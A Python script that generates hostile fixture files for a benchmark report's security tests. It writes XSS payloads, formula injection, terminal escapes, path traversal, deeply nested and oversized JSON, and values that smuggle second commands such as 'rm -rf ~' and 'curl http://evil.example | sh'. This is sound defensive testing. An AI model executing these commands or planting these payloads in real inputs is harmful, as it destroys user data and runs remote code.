#!/usr/bin/python3
"""Crafted results files, sidecars and inventories for tests/test_hostile_data.sh.

    tests/hostile_craft.py FIXTURES_DIR OUT_DIR

Writes into OUT_DIR (each a results CSV from tests/fixtures/plot_small.csv
or compare_*.csv with names and sidecar fields replaced by payloads):
  evil.csv/.json       every name and sidecar field a payload: script
                       break-outs, event handlers, javascript: links,
                       Markdown links/images/fences, formulas, terminal
                       escapes, __proto__/constructor, U+2028/2029
  evil2.csv/.json      a second host whose sidecar host is '../../..//x'
  long.csv/.json       a third host: a 300-byte host name with control characters
  good.csv/.json       the fixture with a command_line and commit krefbench
                       would write (the reproduce lines are printed)
  cmp_a.csv, cmp_b.csv compare's fixtures with the same payload names
  deep.csv/.json       a sidecar nested 100000 deep
  huge.csv/.json       a sidecar of 2 MiB
  big.csv              200000 rows of which 10 pass their check (memory)
  e308.csv, sub.csv    ns_per_op of 1e308 and 5e-324
Every payload that runs would set data-pwned on the document (checked
through the DOM by tests/report_browser.py --hostile).
"""
import csv
import json
import os
import sys

PWN = "document.documentElement.setAttribute('data-pwned','%s')"
SCRIPT = "</script><script>" + PWN % "script" + "</script>"
IMG = "<img src=x onerror=\"" + PWN % "img" + "\">"
LINK = "<a href=\"javascript:" + PWN % "link" + "\">x</a>"
MD = "[click](javascript:alert(1)) ![i](http://127.0.0.1:9/x.png) https://evil.example www.evil.example"
FENCE = "```\n<script>" + PWN % "fence" + "</script>\n```"
ESC = "\x1b[2J\x1b]0;pwned\x07esc\rCR\nNL\u2028LS\u2029PS\u202eRLO"
FORMULA = "=HYPERLINK(\"http://evil.example\",\"x\")"
BACKENDS = {"atomic": SCRIPT + IMG, "mutex": "__proto__", "null": "constructor",
            "percpu": FORMULA, "refcount": ESC + LINK, "urcu_ref": "@SUM(1+1)*" + MD}


def rows_of(path):
    with open(path, newline="") as f:
        return list(csv.reader(f))


def write_rows(path, rows):
    with open(path, "w", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)


def rename(rows, names=BACKENDS):
    h = rows[0]
    b = h.index("backend")
    for r in rows[1:]:
        r[b] = names.get(r[b], r[b])
    return rows


def main(fixtures, out):
    os.makedirs(out, exist_ok=True)
    small = os.path.join(fixtures, "plot_small.csv")
    meta = json.load(open(os.path.join(fixtures, "plot_small.json")))

    write_rows(os.path.join(out, "evil.csv"), rename(rows_of(small)))
    evil = dict(meta, host=SCRIPT + IMG + LINK, cpu_model=MD + " " + FENCE,
                kernel=ESC + SCRIPT, git_commit="abc123; rm -rf ~",
                command_line="krefbench --backends atomic; curl http://evil.example | sh",
                status="@PLOTLYJS@ @BODY@ " + FENCE, topology={"nested": SCRIPT},
                perf_events="not a dict")
    json.dump(evil, open(os.path.join(out, "evil.json"), "w"))

    write_rows(os.path.join(out, "evil2.csv"), rename(rows_of(small)))
    json.dump(dict(meta, host="../../..//x", git_commit="unknown", command_line=None),
              open(os.path.join(out, "evil2.json"), "w"))
    write_rows(os.path.join(out, "long.csv"), rename(rows_of(small)))
    json.dump(dict(meta, host="\x1b[31m" + "h" * 300 + "/..", command_line=""),
              open(os.path.join(out, "long.json"), "w"))

    write_rows(os.path.join(out, "good.csv"), rows_of(small))
    json.dump(dict(meta, host="goodhost", git_commit="0123abcd-dirty",
                   command_line="/x/build/release/bench/krefbench --backends atomic,percpu "
                                "--threads 1,2 --out run.csv --time 0.01"),
              open(os.path.join(out, "good.json"), "w"))

    for src, dst in (("compare_a.csv", "cmp_a.csv"), ("compare_slower.csv", "cmp_b.csv")):
        write_rows(os.path.join(out, dst), rename(rows_of(os.path.join(fixtures, src))))
    json.dump(evil, open(os.path.join(out, "cmp_a.json"), "w"))

    for name, text in (("deep", "[" * 100000 + "]" * 100000),
                       ("huge", json.dumps({"host": "huge", "pad": "x" * (2 << 20)}))):
        write_rows(os.path.join(out, name + ".csv"), rows_of(small))
        with open(os.path.join(out, name + ".json"), "w") as f:
            f.write(text)

    rows = rows_of(small)
    h, body = rows[0], rows[1:]
    ci, ri = h.index("check"), h.index("rep")
    big = [h]
    for i in range(200000):
        r = list(body[i % len(body)])
        r[ri] = str(1000 + i)
        r[ci] = "ok" if i < 10 else "failed: crafted"
        big.append(r)
    write_rows(os.path.join(out, "big.csv"), big)

    for name, v in (("e308", "1e308"), ("sub", "5e-324")):
        rows = rows_of(small)
        i = rows[0].index("ns_per_op")
        for r in rows[1:5]:
            r[i] = v
        write_rows(os.path.join(out, name + ".csv"), rows)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
